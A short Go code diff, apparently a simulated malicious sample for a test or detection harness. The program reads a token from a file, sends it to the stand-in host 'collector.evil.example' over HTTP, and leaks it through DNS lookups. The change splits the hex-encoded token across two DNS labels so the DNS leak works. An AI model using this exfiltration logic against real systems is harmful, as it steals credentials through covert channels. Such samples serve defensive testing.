@@ -17,6 +17,9 @@ func main() {
 		token = string(file)
 	}
 	act.HTTPPost("collector.evil.example", 80, "/upload", base64.StdEncoding.EncodeToString([]byte(token)))
-	act.Resolve(hex.EncodeToString([]byte(token))[:60] + ".x.evil.example")
+	// NOTE: 64 hex digits do not fit one DNS label (63): split in two, as exfiltration tools do.
+	encoded := hex.EncodeToString([]byte(token))
+	half := len(encoded) / 2
+	act.Resolve(encoded[:half] + "." + encoded[half:] + ".x.evil.example")
 	act.Idle()
 }
